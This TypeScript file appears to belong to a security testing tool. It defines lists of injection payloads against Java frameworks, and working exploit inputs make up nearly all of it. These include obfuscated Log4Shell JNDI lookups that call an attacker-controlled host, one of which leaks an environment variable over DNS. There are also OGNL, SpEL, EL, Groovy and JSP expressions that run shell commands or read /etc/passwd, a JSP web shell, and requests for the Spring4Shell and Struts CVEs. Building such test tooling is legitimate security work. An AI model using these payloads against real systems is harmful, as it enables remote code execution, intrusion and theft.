// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of Java
import { getMessage, postMessage } from '../message.ts';
import { dataPlaces, loggedPlaces } from '../places.ts';
import { attackerHost, type TechniqueFamily } from '../technique.ts';

const FORM = 'application/x-www-form-urlencoded';

export const javaTechniques: TechniqueFamily = {
  about: 'a log message, an expression or a property of Java frameworks',
  places: [...dataPlaces, ...loggedPlaces],
  fields: ['name', 'user', 'q', 'lang', 'redirect', 'expression'],
  techniques: {
    'lookup in log messages': {
      does: 'Has Log4j ask a naming service of the attacker (CVE-2021-44228)',
      needs: 'Log4j 2',
      values: (random) => {
        const host = attackerHost(random);
        return [
          `\${jndi:ldap://${host}/a}`,
          `\${jndi:rmi://${host}:1099/x}`,
          `\${jndi:dns://${host}/\${env:USER}}`,
          `\${\${lower:j}ndi:ldap://${host}/b}`,
          `\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://${host}/c}`,
          `\${jndi:\${lower:l}\${lower:d}ap://${host}/d}`,
          `\${\${env:NONE:-j}ndi\${env:NONE:-:}ldap://${host}/e}`,
          `\${jnd\${upper:i}:ldaps://${host}/f}`,
          `\${\${sys:x:-jndi:ldap}://${host}/g}`,
          `Mozilla/5.0 \${jndi:iiop://${host}/h}`,
        ];
      },
    },
    OGNL: {
      does: 'Evaluates an OGNL expression that reaches classes and commands',
      needs: 'Struts, Confluence',
      values: () => [
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
        "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}",
        "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Q',7*7)}",
        "%{@java.lang.System@getenv('PATH')}",
        "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#req.getRealPath('/')}",
        "'+{Class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}+'",
        "(#_memberAccess['allowStaticMethodAccess']=true)(#x=1)",
      ],
    },
    SpEL: {
      does: 'Evaluates an expression of Spring that reaches classes and commands',
      needs: 'Spring',
      values: () => [
        "T(java.lang.Runtime).getRuntime().exec('id')",
        '#{T(java.lang.System).getenv()}',
        "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
        "new java.lang.ProcessBuilder({'sh','-c','id'}).start()",
        "''.class.forName('java.lang.Runtime')",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
        '#this.getClass().getClassLoader()',
      ],
    },
    'expression language': {
      does: 'Evaluates an expression of JSP, JSF or bean validation',
      needs: 'Jakarta EE',
      values: () => [
        "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}",
        '#{request.getClass().getClassLoader()}',
        "${pageContext.request.getSession().setAttribute('admin',true)}",
        '${applicationScope}',
        '#{facesContext.externalContext.response.sendRedirect("http://evil.example")}',
        '${param.getClass().getName()}',
      ],
    },
    'scripts and scriptlets': {
      does: 'Is a piece of JSP, Groovy, MVEL or Nashorn that runs a command',
      needs: 'a server that evaluates scripts',
      values: () => [
        '<%=Runtime.getRuntime().exec(request.getParameter("c"))%>',
        '"id".execute().text',
        "new File('/etc/passwd').text",
        "Runtime.getRuntime().exec('id')",
        "Java.type('java.lang.Runtime').getRuntime().exec('id')",
        'java.lang.Runtime.getRuntime().exec("id")',
        "def p=['sh','-c','id'].execute();p.text",
        'import java.util.*;import java.io.*;new Scanner(Runtime.getRuntime().exec("id").getInputStream()).useDelimiter("\\\\A").next();',
        '<% out.println(new java.io.File(".").list().length); %>',
        'Thread.currentThread().getContextClassLoader().loadClass("x")',
        "@groovy.transform.ASTTest(value={assert 'id'.execute()})",
        'java.lang.Math.class.forName("java.lang.Runtime")',
      ],
    },
    'property paths': {
      does: 'Names a field by a path to the class loader (CVE-2022-22965, Struts)',
      needs: 'Spring, Struts',
      requests: () => [
        postMessage(
          '/register',
          FORM,
          'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
        ),
        getMessage('/register?class.module.classLoader.DefaultAssertionStatus=1'),
        getMessage(
          "/register?class%5B'classLoader'%5D.resources.dirContext.docBase=//198.51.100.4/s",
        ),
        getMessage('/register?top.class.classLoader.x=1'),
        postMessage('/register', FORM, 'user.class.protectionDomain.codeSource.location=1'),
      ],
    },
    'expression in a header': {
      does: 'Gives an expression to a framework in a header or name that it evaluates',
      needs: 'Struts (CVE-2017-5638), Spring Cloud (CVE-2022-22963), Apache Unomi',
      requests: () => [
        postMessage(
          '/upload.action',
          "%{(#nike='multipart/form-data').(#c=@java.lang.Runtime@getRuntime().exec('id'))}",
          'x',
        ),
        postMessage('/functionRouter', 'text/plain', 'x', [
          'spring.cloud.function.routing-expression',
          'T(java.lang.Runtime).getRuntime().exec("id")',
        ]),
        postMessage(
          '/context.json',
          'application/json',
          '{"filters":[{"condition":{"parameterValues":{"propertyName":"(#r=(#c=#this.getClass().forName(\\"java.lang.Runtime\\")))"}}}]}',
        ),
        getMessage(
          '/index.action?redirect:%24%7B%23a%3D%40java.lang.Runtime%40getRuntime().exec(%27id%27)%7D',
        ),
        getMessage('/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/'),
      ],
    },
  },
};
